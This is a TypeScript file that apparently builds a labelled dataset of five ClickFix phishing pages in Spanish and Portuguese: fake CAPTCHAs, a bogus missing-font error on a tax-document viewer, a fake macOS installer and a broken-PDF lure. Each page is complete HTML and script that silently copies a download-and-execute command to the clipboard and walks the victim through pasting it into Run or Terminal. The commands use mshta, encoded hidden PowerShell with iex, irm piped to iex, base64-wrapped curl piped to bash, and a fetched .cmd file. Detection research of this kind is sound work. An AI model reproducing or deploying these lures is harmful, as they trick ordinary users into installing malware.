import { type Entry } from '../entry.js';
import { doc, logo, favicon, b64, pieces } from '../parts/yy-kit.js';

export const entries: Entry[] = [
{
  id: 'yy-clickfix-captcha-mshta-es',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://verificacion-humana.recetas-caseras-mx.com/captcha/',
  body: doc({
    lang: 'es-MX',
    title: 'Un momento…',
    css: `body{margin:0;font-family:-apple-system,"Segoe UI",Roboto,Arial;background:#fff;color:#313131}.w{max-width:640px;margin:90px auto;padding:0 20px}
h1{font-size:30px;font-weight:500}.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;background:#fafafa;padding:16px 18px;width:300px;border-radius:4px;cursor:pointer}
.cb i{width:26px;height:26px;border:2px solid #888;border-radius:3px;background:#fff}.cf{float:right;font-size:10px;color:#888;text-align:right}
.md{display:none;border:1px solid #ddd;border-radius:6px;padding:18px 22px;margin-top:18px;background:#fff;box-shadow:0 4px 14px rgba(0,0,0,.08)}.md ol{line-height:2}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:2px 6px;font-family:monospace}.ft{font-size:12px;color:#999;margin-top:60px}`,
    body: `<div class="w"><h1>recetas-caseras-mx.com</h1><p>Verificando que eres un humano. Esto puede tardar unos segundos.</p>
<div class="cb" id="cb"><i></i><span>No soy un robot</span><span class="cf">reCAPTCHA<br>Privacidad - Términos</span></div>
<div class="md" id="md"><b>Verificación adicional requerida</b><p>Para completar la verificación sigue estos pasos:</p><ol><li>Presiona <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Presiona <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Presiona <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">ID de verificación: 471-228</p></div>
<p class="ft">recetas-caseras-mx.com necesita revisar la seguridad de tu conexión antes de continuar.</p></div>
<script>
var cmd='mshta https://cdn-verif-captcha.top/v/es.hta # ✅ No soy un robot - ID de verificación: 471-228';
document.getElementById('cb').addEventListener('click',function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
this.querySelector('i').style.background='#1a73e8';document.getElementById('md').style.display='block';});
</script>`,
  }),
},
{
  id: 'yy-clickfix-verificacao-powershell-enc',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://seguranca-cloudflare.portal-noticias-sp.com.br/cdn-cgi/verificar',
  body: doc({
    lang: 'pt-BR',
    title: 'Só um momento...',
    css: `body{margin:0;font-family:system-ui,Arial;background:#fff;color:#1d1d1d}.c{max-width:700px;margin:12vh auto;padding:0 20px}h2{font-weight:500;font-size:28px}
.bx{display:flex;justify-content:space-between;align-items:center;border:1px solid #d9d9d9;background:#fafafa;padding:14px 16px;width:300px}.bx label{display:flex;align-items:center;gap:10px;cursor:pointer}
.bx input{width:24px;height:24px}.st{display:none;margin-top:20px;border-left:4px solid #f48120;padding:8px 16px;background:#fff8f1}.ray{font-size:12px;color:#888;margin-top:60px;border-top:1px solid #eee;padding-top:10px}`,
    body: `<div class="c"><h2>portal-noticias-sp.com.br</h2><p>Verifique se você é humano concluindo a ação abaixo.</p>
<div class="bx"><label><input type="checkbox" id="ck"> Confirme que você é humano</label><svg width="60" height="24" viewBox="0 0 60 24"><path d="M10 18h38a6 6 0 0 0-2-11 9 9 0 0 0-17-2 7 7 0 0 0-19 8z" fill="#f48120"/></svg></div>
<div class="st" id="st"><b>Etapas de verificação</b><ol><li>Pressione a tecla Windows + R</li><li>No campo que abrir, pressione CTRL + V</li><li>Pressione Enter para concluir</li></ol><p style="font-size:12px">Você verá: “Eu não sou um robô – verificação reCAPTCHA ID 8821”</p></div>
<div class="ray">Ray ID: 8f1a22c0be41a9d2 · Desempenho e segurança por Cloudflare</div></div>
<script>
var e='${Buffer.from("$u='https://cdn-cf-verify.lat/api/v2/s';iex (New-Object Net.WebClient).DownloadString($u)", 'utf16le').toString('base64')}';
var c='powershell -w hidden -nop -enc '+e+'  # Eu não sou um robô – verificação reCAPTCHA ID 8821';
document.getElementById('ck').onchange=function(){navigator.clipboard.writeText(c).catch(function(){});document.getElementById('st').style.display='block';};
</script>`,
  }),
},
{
  id: 'yy-clickfix-sat-fuente-terminal',
  label: 'clickfix',
  kind: 'clickfix-fix-it',
  url: 'https://consulta-cfdi-sat.click/verificador/documento.php?id=91AF33',
  body: doc({
    lang: 'es-MX',
    title: 'Verificación de comprobantes fiscales digitales por internet',
    head: favicon('#611232', 'S'),
    css: `body{margin:0;font-family:Arial;background:#e9e9e9}.h{background:#611232;color:#fff;padding:12px 24px}.v{max-width:760px;margin:20px auto;background:#fff;min-height:400px;position:relative}
.doc{padding:30px;color:transparent;text-shadow:0 0 8px rgba(0,0,0,.6);font-size:14px;line-height:1.8}.er{position:absolute;top:60px;left:50%;transform:translateX(-50%);width:460px;background:#fff;border:1px solid #c00;box-shadow:0 6px 24px rgba(0,0,0,.3)}
.er .t{background:#c00;color:#fff;padding:8px 14px}.er .c{padding:16px 18px;font-size:14px}.er button{background:#611232;color:#fff;border:0;padding:10px 18px}.ok{display:none;background:#f4f4f4;padding:10px;margin-top:10px}`,
    body: `<div class="h">${logo('sat', 26)} Verificador de CFDI</div><div class="v"><div class="doc">COMPROBANTE FISCAL DIGITAL POR INTERNET · EMISOR RFC CBA120304KX1 · RECEPTOR · USO CFDI G03 · FOLIO FISCAL 91AF33C0-... · SUBTOTAL · IVA 16% · TOTAL $ 27,514.00 · SELLO DIGITAL DEL SAT ...</div>
<div class="er"><div class="t">Error: fuente “Montserrat SAT” no encontrada</div><div class="c"><p>El documento no se puede mostrar correctamente porque falta la fuente oficial del SAT en tu equipo.</p>
<button id="fx">¿Cómo solucionarlo?</button><div class="ok" id="ok"><b>Instalar la fuente automáticamente:</b><ol><li>Presiona <b>Windows + X</b> y elige <b>Terminal (Administrador)</b></li><li>Haz clic derecho dentro de la ventana para pegar</li><li>Presiona <b>Enter</b> y recarga esta página</li></ol></div></div></div></div>
<script>
document.getElementById('fx').onclick=function(){var p=${pieces("powershell -ep bypass -c \"irm https://sat-fuentes-cdn.click/instalar-fuente | iex\"", 11)};navigator.clipboard.writeText(p.join(''));document.getElementById('ok').style.display='block';this.textContent='Comando copiado ✔';};
</script>`,
  }),
},
{
  id: 'yy-clickfix-macos-terminal-ar',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://descargas-clima-app.com.ar/mac/instalar',
  body: doc({
    lang: 'es-AR',
    title: 'ClimaPro para macOS – Instalación',
    css: `body{margin:0;font-family:-apple-system,"SF Pro Text",Helvetica;background:#f5f5f7;color:#1d1d1f}.w{max-width:660px;margin:60px auto;background:#fff;border-radius:18px;padding:36px}
.term{background:#1e1e1e;color:#d4d4d4;font-family:Menlo,monospace;font-size:13px;border-radius:8px;padding:14px;word-break:break-all}.b{background:#0071e3;color:#fff;border:0;border-radius:980px;padding:12px 24px;font-size:15px}
ol li{margin:8px 0}`,
    body: `<div class="w"><h1>Instalá ClimaPro en tu Mac</h1><p>Por las nuevas restricciones de Gatekeeper la instalación se hace desde la Terminal. Es re fácil, tarda menos de un minuto:</p>
<ol><li>Abrí <b>Terminal</b> (Cmd + Espacio, escribí “Terminal” y dale Enter).</li><li>Tocá el botón de abajo para copiar el comando.</li><li>Pegalo en la Terminal con Cmd + V y apretá Enter. Si te pide la contraseña de tu Mac, ingresala.</li></ol>
<div class="term" id="t"></div><p><button class="b" id="c">Copiar comando</button></p><p style="font-size:12px;color:#86868b">Compatible con macOS 12 Monterey o superior · Apple Silicon e Intel.</p></div>
<script>
var k='${b64('curl -fsSL https://climapro-dl.com.ar/install.sh | bash')}';
var cmd='/bin/bash -c "$(echo '+k+' | base64 -d)"';
document.getElementById('t').textContent=cmd;
document.getElementById('c').onclick=function(){navigator.clipboard.writeText(cmd);this.textContent='¡Copiado!';};
</script>`,
  }),
},
{
  id: 'yy-clickfix-boleto-leitor-pdf',
  label: 'clickfix',
  kind: 'clickfix-fix-it',
  url: 'https://boletos-online-segunda-via.com/visualizar/88471.pdf.html',
  body: doc({
    lang: 'pt-BR',
    title: 'Boleto_88471.pdf',
    css: `body{margin:0;background:#525659;font-family:Arial}.tb{background:#323639;color:#fff;padding:10px 16px;font-size:14px}.pg{width:640px;height:820px;margin:20px auto;background:#fff;filter:blur(4px)}
.m{position:fixed;top:25%;left:50%;transform:translateX(-50%);width:470px;background:#fff;border-radius:6px;box-shadow:0 10px 40px rgba(0,0,0,.5);padding:22px}
.m h3{margin-top:0;color:#b71c1c}.m button{background:#1565c0;color:#fff;border:0;padding:10px 20px;border-radius:4px}.m .s{display:none;background:#f5f5f5;padding:10px;font-size:14px;margin-top:10px}`,
    body: `<div class="tb">Boleto_88471.pdf</div><div class="pg"></div>
<div class="m"><h3>Erro ao carregar o documento</h3><p>O leitor de PDF do navegador não conseguiu exibir o boleto (código 0x8004DE44). Atualize o componente de visualização para continuar.</p>
<button id="a">Corrigir automaticamente</button><div class="s" id="s">Correção copiada. Agora:<br>1. Pressione <b>Windows + R</b><br>2. Pressione <b>Ctrl + V</b><br>3. Pressione <b>Enter</b> e aguarde o boleto abrir.</div></div>
<script>
var q=['cmd /c curl -s -o %TEMP%\\\\leitor.cmd ','https://boletos-online-segunda-via.com/fx/leitor.cmd',' && %TEMP%\\\\leitor.cmd'];
document.getElementById('a').onclick=function(){navigator.clipboard.writeText(q.join(''));document.getElementById('s').style.display='block';};
</script>`,
  }),
},
];
